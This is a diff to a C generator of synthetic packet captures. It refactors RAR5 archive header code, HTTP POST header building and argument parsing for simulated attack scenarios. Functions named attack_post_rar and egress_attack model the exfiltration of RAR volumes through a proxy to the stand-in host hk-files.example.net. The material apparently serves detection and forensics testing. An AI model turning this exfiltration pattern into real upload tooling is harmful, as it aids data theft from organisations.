@@ -36,7 +36,9 @@
 
 #define MSS4 1460
 #define MSS6 1440
-#define FRAME_MAX 1600
+/* A capture on a PC whose NIC segments for it (TSO) sees 16 KiB segments. */
+#define TSO_SEG 16384
+#define FRAME_MAX (TSO_SEG + 128)
 #define SNAPLEN 65535
 #define LINKTYPE_ETHERNET 1
 #define PROTO_TCP 6
@@ -52,6 +54,8 @@ enum dir { C2S = 0, S2C = 1 };
 
 static const char ua_ie11[] =
     "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko";
+/* The uploader of the JAL case. */
+static const char ua_msie7[] = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)";
 static const char via_squid[] = "1.1 proxy01.corp.example (squid/3.3.8)";
 
 /* ------------------------------------------------------------------ */
@@ -1180,7 +1184,9 @@ rar5_file_fields(struct buf *f, const struct rar5_file *rf, uint64_t data_size)
 	put_vint(f, rf->unpacked);
 	put_vint(f, 0x20);   /* FILE_ATTRIBUTE_ARCHIVE */
 	put_le32(f, rf->mtime);
-	put_vint(f, 0x1580); /* version 0, method 3, dictionary 4 MB */
+	/* a file packed to its own size is stored (method 0); else version 0,
+	 * method 3, dictionary 4 MB */
+	put_vint(f, rf->unpacked == data_size ? 0 : 0x1580);
 	put_vint(f, 0);      /* Windows */
 	put_vint(f, strlen(rf->name));
 	put_str(f, rf->name);
@@ -1195,6 +1201,21 @@ rar5_end_fields(struct buf *f, const struct rar5_file *rf)
 }
 
 static const uint8_t rar5_sig[8] = { 'R', 'a', 'r', '!', 0x1a, 0x07, 0x01, 0x00 };
+
+/* Signature, main and file headers before a data area of `data` bytes. */
+static void
+rar5_put_heads(struct buf *out, const struct rar5_file *rf, uint64_t data)
+{
+	struct buf mh = { 0 }, fh = { 0 };
+
+	rar5_main_fields(&mh, rf);
+	rar5_file_fields(&fh, rf, data);
+	put_mem(out, rar5_sig, sizeof(rar5_sig));
+	rar5_block(out, &mh);
+	rar5_block(out, &fh);
+	buf_free(&mh);
+	buf_free(&fh);
+}
 
 /* Signature, main and file headers of an archive of exactly total bytes;
  * returns the size of the data area that must follow (then the end). */
@@ -1217,12 +1238,10 @@ rar5_head(struct buf *out, size_t total, const struct rar5_file *rf)
 	rar5_file_fields(&fh, rf, data);
 	if (fixed + rar5_block_len(&fh) + data != total)
 		die("rar5: size did not converge");
-	put_mem(out, rar5_sig, sizeof(rar5_sig));
-	rar5_block(out, &mh);
-	rar5_block(out, &fh);
 	buf_free(&mh);
 	buf_free(&fh);
 	buf_free(&eh);
+	rar5_put_heads(out, rf, data);
 	return data;
 }
 
@@ -1637,17 +1656,22 @@ multipart_body(struct buf *b, const char *field, const char *value,
 	put_fmt(b, "\r\n--%s--\r\n", mp_boundary);
 }
 
+/* A multipart POST's head: through the proxy (absolute-form target) or
+ * straight to the server (origin-form). */
 static void
-http_proxy_post_head(struct buf *b, const char *host, const char *path,
-    const char *ua, size_t content_length)
+http_post_head(struct buf *b, const char *host, const char *path,
+    const char *ua, size_t content_length, bool via_proxy)
 {
-	put_fmt(b, "POST http://%s%s HTTP/1.1\r\n", host, path);
+	if (via_proxy)
+		put_fmt(b, "POST http://%s%s HTTP/1.1\r\n", host, path);
+	else
+		put_fmt(b, "POST %s HTTP/1.1\r\n", path);
 	put_str(b, "Accept: */*\r\n");
 	put_fmt(b, "User-Agent: %s\r\n", ua);
 	put_fmt(b, "Host: %s\r\n", host);
 	put_fmt(b, "Content-Type: multipart/form-data; boundary=%s\r\n", mp_boundary);
 	put_fmt(b, "Content-Length: %zu\r\n", content_length);
-	put_str(b, "Proxy-Connection: Keep-Alive\r\n");
+	put_str(b, via_proxy ? "Proxy-Connection: Keep-Alive\r\n" : "Connection: Keep-Alive\r\n");
 	put_str(b, "Pragma: no-cache\r\n\r\n");
 }
 
@@ -1672,7 +1696,6 @@ small_ok_response(struct conn *c, struct buf *b, bool via_proxy)
 static void
 attack_post_rar(struct world *w, struct host *pc, uint64_t t)
 {
-	static const char ua[] = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)";
 	struct conn c;
 	struct buf vol = { 0 };
 
@@ -1691,7 +1714,8 @@ attack_post_rar(struct world *w, struct host *pc, uint64_t t)
 		multipart_body(&w->b2, "id", value, fname, vol.p, vol.len);
 		body_len = w->b2.len;
 		w->b1.len = 0;
-		http_proxy_post_head(&w->b1, "hk-files.example.net", "/upload.php", ua, body_len);
+		http_post_head(&w->b1, "hk-files.example.net", "/upload.php", ua_msie7,
+		    body_len, true);
 		put_mem(&w->b1, w->b2.p, w->b2.len);
 		tcp_send_buf(&c, C2S, &w->b1);
 		c.t += MS(240);
@@ -1844,7 +1868,7 @@ proxy_post_and_close(struct world *w, struct conn *c, const char *host,
     const char *path, uint32_t reply_ms, uint32_t close_ms)
 {
 	w->b1.len = 0;
-	http_proxy_post_head(&w->b1, host, path, ua_ie11, w->b2.len);
+	http_post_head(&w->b1, host, path, ua_ie11, w->b2.len, true);
 	put_mem(&w->b1, w->b2.p, w->b2.len);
 	tcp_send_buf(c, C2S, &w->b1);
 	c->t += MS(reply_ms);
@@ -1986,7 +2010,7 @@ egress_attack(struct world *w, struct host *proxy, uint64_t t)
 	w->b1.len = 0;
 	put_str(&w->b1, "POST /upload.php HTTP/1.1\r\n");
 	put_str(&w->b1, "Accept: */*\r\n");
-	put_str(&w->b1, "User-Agent: Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)\r\n");
+	put_fmt(&w->b1, "User-Agent: %s\r\n", ua_msie7);
 	put_str(&w->b1, "Host: hk-files.example.net\r\n");
 	put_str(&w->b1, "Content-Type: application/octet-stream\r\n");
 	put_fmt(&w->b1, "Content-Length: %u\r\n", EGRESS_RAR4_SIZE);
@@ -2199,17 +2223,26 @@ gen_burst(struct world *w, unsigned n)
 	}
 }
 
-static void
-write_burst(const char *count, const char *path)
+/* A count given to option `what`, from lo to hi. */
+static unsigned long
+parse_count(const char *what, const char *count, unsigned long lo, unsigned long hi)
 {
-	struct world w;
 	char *end;
 	unsigned long n;
 
 	errno = 0;
 	n = strtoul(count, &end, 10);
-	if (errno != 0 || end == count || *end != '\0' || n == 0 || n > BURST_MAX)
-		die("--burst: count \"%s\" is not 1 to %u", count, BURST_MAX);
+	if (errno != 0 || end == count || *end != '\0' || *count == '-' || n < lo || n > hi)
+		die("%s: count \"%s\" is not %lu to %lu", what, count, lo, hi);
+	return n;
+}
+
+static void
+write_burst(const char *count, const char *path)
+{
+	struct world w;
+	unsigned long n = parse_count("--burst", count, 1, BURST_MAX);
+
 	world_init(&w, 0x4255525354ULL, pc_gw_mac);
 	gen_burst(&w, (unsigned)n);
 	capture_write(&w.cap, path);
